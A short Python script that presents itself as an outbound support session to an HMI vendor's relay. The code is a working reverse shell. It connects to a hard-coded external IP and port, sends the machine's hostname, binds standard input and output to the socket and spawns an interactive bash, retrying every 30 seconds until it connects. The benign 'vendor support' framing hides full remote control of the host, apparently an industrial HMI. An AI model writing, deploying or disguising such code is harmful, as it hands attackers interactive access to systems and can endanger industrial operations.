#!/usr/bin/env python3
"""Outbound support session to the HMI vendor's relay."""
import argparse, os, pty, socket, time

RELAY = ("198.51.100.61", 4433)

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    while True:
        try:
            s = socket.create_connection(RELAY, timeout=10)
            s.settimeout(None)
            s.sendall(f"TICKET {a.ticket} {socket.gethostname()}\n".encode())
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            pty.spawn(["/bin/bash", "-i"])
            break
        except OSError:
            time.sleep(30)

if __name__ == "__main__":
    main()
